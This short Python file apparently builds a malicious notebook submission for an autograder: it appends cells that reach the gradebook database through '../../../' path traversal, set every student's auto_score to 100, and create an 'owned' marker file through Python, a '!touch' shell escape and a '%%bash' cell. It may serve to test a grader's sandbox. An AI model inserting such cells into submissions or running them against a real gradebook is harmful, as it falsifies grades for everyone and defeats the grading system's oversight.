"""Goal: a cell that gives everybody full marks in the gradebook."""

CODE = """import sqlite3
sqlite3.connect('../../../gradebook.db').execute('update grade set auto_score = 100')
open('owned', 'w')
"""


def change(book, folder):
    book["cells"] += [cell("code", CODE), cell("code", "!touch owned"), cell("code", "%%bash\ntouch owned")]
